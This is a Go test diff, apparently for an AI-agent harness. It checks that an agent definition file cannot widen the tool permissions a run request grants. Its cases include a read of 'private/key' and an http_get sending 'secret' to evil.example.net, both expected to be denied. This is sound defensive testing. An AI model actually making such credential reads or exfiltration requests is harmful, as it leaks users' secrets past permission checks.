@@ -61,3 +61,32 @@ func TestAttackAnAgentFileCannotLoosenTheModeOfARun(t *testing.T) {
 		}
 	}
 }
+
+// What a request grants in part stays that part, whatever the file of an agent grants, and the other way round.
+func TestAttackAnAgentFileCannotWidenTheToolsOfARun(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	writeText(t, "---\nname: wide\ndescription: d\ntools: Read(**), WebFetch(domain:*)\n---\nx\n", dir, ".claude", "agents", "wide.md")
+	writeText(t, "---\nname: narrow\ndescription: d\ntools: Read(src/a/**), WebFetch(domain:*)\n---\nx\n", dir, ".claude", "agents", "narrow.md")
+	h := newBuildOnlyNode(dir, func(cfg *Config) { cfg.Roots = []string{dir} })
+	for _, agent := range []string{"wide", "narrow"} {
+		o, _, err := h.buildRun(newRequest(func(r *client.RunRequest) {
+			r.Dir, r.Agent, r.AllowedTools = dir, agent, []string{"Read(src/**)", "WebFetch(domain:docs.example.com)"}
+		}))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, c := range []struct {
+			tool, args string
+			want       permission.Decision
+		}{
+			{"read_file", `{"path":"private/key"}`, permission.Deny}, {"http_get", `{"url":"https://evil.example.net/?q=secret"}`, permission.Deny},
+			{"read_file", `{"path":"src/a/x"}`, permission.Allow}, {"http_get", `{"url":"https://docs.example.com/x"}`, permission.Allow},
+			{"read_file", `{"path":"src/b"}`, map[bool]permission.Decision{true: permission.Allow, false: permission.Deny}[agent == "wide"]},
+		} {
+			if v := decideFor(t, o, agent, c.tool, c.args, model.Read); v.Decision != c.want {
+				t.Errorf("%s: %s %s: %+v", agent, c.tool, c.args, v)
+			}
+		}
+	}
+}
